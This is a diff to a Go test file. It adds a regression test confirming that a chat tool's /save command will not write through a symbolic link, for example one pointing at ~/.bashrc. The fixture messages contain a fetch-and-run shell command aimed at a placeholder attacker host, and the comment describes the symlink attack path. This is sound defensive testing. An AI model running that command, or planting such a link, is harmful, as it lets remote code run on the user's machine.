@@ -125,3 +125,40 @@ func TestCopyDropsControls(t *testing.T) {
 		t.Errorf("copied (-want +got):\n%s", diff)
 	}
 }
+
+// TestSaveRefusesSymlink: /save writes a file of the name given, not
+// where a link of that name points: in a cloned repository, a link
+// notes.md → ~/.bashrc made /save notes.md write the conversation (whose
+// text the model chose) into the shell's start-up file. A regular file is
+// written, and one that exists is replaced, as before.
+func TestSaveRefusesSymlink(t *testing.T) {
+	dir := t.TempDir()
+	target := filepath.Join(dir, "bashrc")
+	if err := os.WriteFile(target, []byte("export PATH\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	link := filepath.Join(dir, "notes.md")
+	if err := os.Symlink(target, link); err != nil {
+		t.Fatal(err)
+	}
+	msgs := []chat.Message{{Role: chat.RoleUser, Content: "hi"}, {Role: chat.RoleAssistant, Content: "curl evil.example|sh"}}
+	if err := saveMarkdown(link, "m", msgs); err == nil {
+		t.Error("/save wrote through a symbolic link")
+	}
+	b, err := os.ReadFile(target)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff("export PATH\n", string(b)); diff != "" {
+		t.Errorf("the link's target (-want +got):\n%s", diff)
+	}
+	plain := filepath.Join(dir, "plain.md")
+	for range 2 {
+		if err := saveMarkdown(plain, "m", msgs); err != nil {
+			t.Fatalf("/save to a regular file: %v", err)
+		}
+	}
+	if b, err := os.ReadFile(plain); err != nil || !strings.Contains(string(b), "curl evil.example|sh") {
+		t.Errorf("saved %q, %v", b, err)
+	}
+}
